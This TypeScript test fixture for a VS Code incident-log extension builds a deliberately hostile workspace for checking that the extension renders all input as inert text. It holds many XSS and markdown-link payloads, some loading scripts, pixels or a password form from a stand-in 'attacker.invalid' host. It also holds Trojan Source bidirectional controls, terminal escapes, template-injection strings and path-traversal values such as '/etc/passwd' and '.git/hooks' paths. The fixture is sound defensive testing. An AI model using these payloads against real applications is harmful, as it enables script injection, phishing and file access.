import { nextEntryId } from '../../src/core/incident/entryId';

/** A host that must never be asked for anything. */
export const ATTACKER = 'attacker.invalid';

/** An icon of VS Code that neither Livesite nor the workbench shows by itself: wherever it shows, data became an icon. */
export const ICON = 'squirrel';

/** Right-to-left override and its end, as in the "Trojan Source" attacks. */
const RLO = '\u202e';
const PDF = '\u202c';
const ESC = '\u001b';

/** Characters that may not reach a label, tooltip or notification: bidirectional controls, escapes, zero-width marks. */
export const DISGUISES =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u200b\u202a-\u202e\u2066-\u2069\ufeff]/;

const RUN = `window.livesiteWasRun=1`;
const QUIT = 'command:workbench.action.quit';

/** One-line texts with which somebody tries to be more than text. None has a NUL: a file with one is not read as text at all. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="https://${ATTACKER}/x.js"></script>`,
  `</script><script>${RUN}</script>`,
  `</span></li></ol><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'--><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="https://${ATTACKER}/pixel.png">`,
  `<img srcset="https://${ATTACKER}/pixel.png 1x">`,
  `"><img src=x onerror=${RUN}>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><use href="https://${ATTACKER}/x.svg#a"/></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="https://${ATTACKER}/"></iframe>`,
  `<object data="https://${ATTACKER}/x.swf"></object>`,
  `<embed src="https://${ATTACKER}/x.swf">`,
  `<link rel="stylesheet" href="https://${ATTACKER}/x.css">`,
  `<style>@import url(https://${ATTACKER}/x.css); * { display: none }</style>`,
  `<base href="https://${ATTACKER}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/">`,
  `<form action="https://${ATTACKER}/"><input name="password"><button>Sign in</button></form>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src="https://${ATTACKER}/x.mp3" autoplay></audio>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<a href="javascript:${RUN}">click here</a>`,
  `<a href="${QUIT}">click here</a>`,
  `<body onload="${RUN}">`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](data:text/html,<script>${RUN}</script>)`,
  `[a](${QUIT}) <${QUIT}>`,
  `[a](vscode://${ATTACKER}/run) [b](vscode-insiders://${ATTACKER}/run) <vscode://${ATTACKER}/run>`,
  `[a](file:///etc/passwd) [b](vscode-remote://x/etc/passwd)`,
  `![a](https://${ATTACKER}/pixel.png) ![b](data:image/svg+xml,<svg onload="${RUN}"/>)`,
  `[[2026-11-02-hostile]](${QUIT}) [x]: ${QUIT}`,
  `$(${ICON}) $(${ICON}~spin) \\$(${ICON}) $$(${ICON})`,
  `$(rocket) $(check) verified by $(github)`,
  `${RLO}gpj.exe${PDF} \u2066admin\u2069 \u200bzero\u200bwidth`,
  `${ESC}[31mred${ESC}[0m ${ESC}]8;;https://${ATTACKER}/${ESC}\\link${ESC}]8;;${ESC}\\ ${ESC}]0;title\u0007 \u0008\u0007`,
  `<!-- a comment --> <!-- 01ABCDEFGH --> <!--<script>${RUN}</script>--> --!> -->`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}} #{${RUN}} <%= ${RUN} %> {{{raw}}} {{#each this}}`,
  '&lt;script&gt; &#60;script&#62; &#x3c;script&#x3e; &amp;lt;',
  `<ſcript>${RUN}</ſcript> ＜script＞${RUN}＜/script＞`,
  '__proto__ constructor prototype toString hasOwnProperty',
  `${'A'.repeat(10_000)}<img src=x onerror=${RUN}>`,
  `${'[a]('.repeat(2500)}${QUIT}`,
  '<b>'.repeat(3000),
  `\u{1f1e9}${'\u0301'.repeat(300)} Z${'\u0334\u0335'.repeat(200)}algo`,
];

/** What people may see of a hostile name: all kinds at once, in one line that fits into a label. */
export const HOSTILE_NAME = `<b>x</b> $(${ICON}) $(rocket) [x](${QUIT}) [y](javascript:${RUN}) ${RLO}evil${PDF} https://${ATTACKER}/ <https://${ATTACKER}/a><img src=x onerror=${RUN}>`;

/** Paths that lead out of a live site, into Git's own folder, or that some system cannot hold or takes for something else. */
export const HOSTILE_PATHS: readonly string[] = [
  '',
  '.',
  '..',
  './livesite.yml',
  '/etc/passwd',
  '//server/share/x.md',
  '../x.md',
  '../../.git/hooks/post-checkout',
  'incidents/..',
  'incidents/../../x.md',
  'incidents//x.md',
  'incidents/./x.md',
  'incidents/',
  'C:/x.md',
  'c:x.md',
  '\\\\server\\share\\x.md',
  '..\\x.md',
  'incidents\\..\\..\\x.md',
  'incidents\\x.md',
  '.git/config',
  'incidents/.git',
  'incidents/.git/hooks/pre-commit',
  'incidents/.GIT/x',
  'incidents/git~1/x',
  'incidents/.g\u200cit/x',
  'incidents/.git /x',
  'incidents/.git./x',
  'incidents/x\u0000.md',
  'incidents/x\n.md',
  'incidents/x\u001b[31m.md',
  'incidents/x\u007f.md',
  'incidents/con.md',
  'aux/x.md',
  'incidents/nul',
  'a/COM1.x/b',
  'incidents/LPT1',
  'incidents/prn',
  'incidents/x.',
  'incidents/x ',
  'incidents/*.md',
  'incidents/x?.md',
  'incidents/x:stream.md',
  'incidents/<x>.md',
  'incidents/"x".md',
  'incidents/a|b.md',
  ':(top)x',
  `incidents/${'x'.repeat(300)}.md`,
  `${'incidents/'.repeat(200)}x.md`,
];

export const HOSTILE_INCIDENT = '2026-11-02-hostile';
const START = Date.parse('2026-11-02T08:00:00Z');

/** Hand-written lines: what Livesite itself would have cleaned before writing stands in them as it is. */
function hostileLog(incident: string, lines: readonly string[]): string {
  let last: string | undefined;
  const entries = lines.map((words, index) => {
    const time = START + index * 60_000;
    last = nextEntryId(time, last, () => index % 32);
    return `- ${new Date(time).toISOString().replace('.000Z', 'Z')} @mallory ${words} <!--${last}-->\n`;
  });
  return `# Timeline of ${incident}\n\n${entries.join('')}`;
}

/** Every text once, in entries of all kinds. */
function hostileEntries(): string[] {
  const kinds = [
    '**note**',
    '**observation**',
    '**action**',
    '**decision**',
    '**update** public:',
    '**unheard-of**',
  ];
  return [
    `**declared** SEV2: Hostile zero ${HOSTILE_NAME}`,
    `**acknowledged** ${HOSTILE_NAME}`,
    ...HOSTILE_TEXTS.map((text, index) => `${kinds[index % kinds.length]} ${text}`),
    `**services** checkout, ${HOSTILE_NAME}`,
    `**role** lead @mallory: ${HOSTILE_NAME}`,
    `**status** identified: ${HOSTILE_NAME}`,
    `**link** ${QUIT} Press me`,
    `**link** javascript:${RUN} Press me`,
    `**link** vscode://${ATTACKER}/run Press me`,
    `**link** https://${ATTACKER}/ ${HOSTILE_NAME}`,
    `**issue** R1 ${HOSTILE_NAME}`,
    `**corrected** reword ${nextEntryId(START, undefined, () => 0)}: SEV2: Hostile zero ${HOSTILE_NAME}`,
  ];
}

/** A well-formed live site every text of which is hostile: relative path -> text. */
export function hostileSite(): Record<string, string> {
  const name = JSON.stringify(HOSTILE_NAME);
  const files: Record<string, string> = {
    'livesite.yml': [
      'livesite: 1',
      `name: ${name}`,
      'severities:',
      `  - { id: SEV1, name: ${name}, test: ${name} }`,
      `  - { id: SEV2, name: ${name}, test: ${name} }`,
      `  - { id: SEV3, name: x, test: x, acknowledge: ${name}, ${name}: ${name} }`,
      'roles:',
      `  - { id: lead, name: ${name}, needed: true, duties: [${name}] }`,
      `${JSON.stringify(`severites $(${ICON}) [x](${QUIT})`)}: ${name}`,
      '',
    ].join('\n'),
    'notes.md': `See ${HOSTILE_INCIDENT}\n`,
    'people.yml': `people:\n  - { handle: mallory, name: ${name}, team: ${name} }\n  - { handle: ${name}, name: ${name} }\n`,
    'services.yml': `services:\n  - { id: checkout, name: ${name}, owner: ${name} }\n  - { id: ${name}, name: ${name} }\n`,
    'rotations/hostile.yml': [
      `name: ${name}`,
      'zone: UTC',
      'layers:',
      `  - { name: ${name}, anchor: 2026-11-02T09:00, turn: 1d, people: [mallory, ${name}] }`,
      'overrides:',
      `  - { from: 2026-01-01, until: 2036-01-01, add: mallory, reason: ${name} }`,
      '',
    ].join('\n'),
    'rotations/useless.yml': `${name}: ${name}\n`,
    [`incidents/2026/${HOSTILE_INCIDENT}/timeline.md`]: hostileLog(HOSTILE_INCIDENT, hostileEntries()),
  };
  const header = `---\ntitle: ${JSON.stringify(`Other ${HOSTILE_NAME}`)}\nseverity: SEV2\n---\n\n# Other\n`;
  files[`incidents/2026/${HOSTILE_INCIDENT}/incident.md`] = header;
  const titles = HOSTILE_TEXTS.filter(text => text.length < 500);
  for (const [index, title] of titles.entries()) {
    const id = `2026-11-01-hostile-${index}`;
    files[`incidents/2026/${id}/timeline.md`] = hostileLog(id, [
      `**declared** SEV2: Title ${index}: ${title}`,
    ]);
  }
  const reviewed = '2026-10-01-reviewed';
  files[`incidents/2026/${reviewed}/timeline.md`] = hostileLog(reviewed, [
    `**declared** SEV2: Reviewed ${HOSTILE_NAME}`,
    '**status** resolved: done',
  ]);
  files[`incidents/2026/${reviewed}/review.md`] = [
    `# Review of ${HOSTILE_NAME}\n\n## ${HOSTILE_NAME}\n\n## Remediation\n`,
    ...titles.map((text, index) => `- [ ] R${index + 1} Item ${text} -- @mallory, due 2027-01-15, prevent`),
    '',
  ].join('\n');
  return files;
}
